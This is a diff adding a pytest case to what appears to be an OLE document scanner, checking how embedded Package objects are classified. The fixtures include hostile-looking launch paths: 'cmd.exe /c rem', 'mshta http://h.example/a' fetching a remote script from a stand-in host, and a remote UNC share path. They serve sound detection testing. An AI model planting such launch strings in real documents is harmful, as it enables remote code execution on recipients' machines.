@@ -51,3 +51,13 @@ def test_targets_of_hyperlinks_in_either_kind_of_moniker() -> None:
 def test_the_equation_editor_is_not_mathtype(name: str, held: bool) -> None:
     found = by_name(name)
     assert (found is not None and found.code == "OLE-EQUATION") == held
+
+
+@pytest.mark.parametrize(("path", "kind", "code"), [
+    (b"cmd.exe /c rem", 1, "OLE-PACKAGE-ACTIVE"), (b"mshta http://h.example/a", 1, "OLE-PACKAGE-ACTIVE"), (b"\\\\h.example\\s\\a.doc", 1, "OLE-PACKAGE-ACTIVE"),
+    (b"C:\\docs\\a.doc", 1, "OLE-PACKAGE"), (b"C:\\docs\\a.exe", 3, "OLE-PACKAGE"),
+])
+def test_packages_that_only_name_something(path: bytes, kind: int, code: str) -> None:
+    data = b"\2\0link\0" + path + b"\0\0\0" + bytes([kind, 0]) + (len(path) + 1).to_bytes(4, "little") + path + b"\0" + bytes(4)
+    child = native(len(data).to_bytes(4, "little") + data)
+    assert child is not None and [o.code for o in child.observations] == [code]
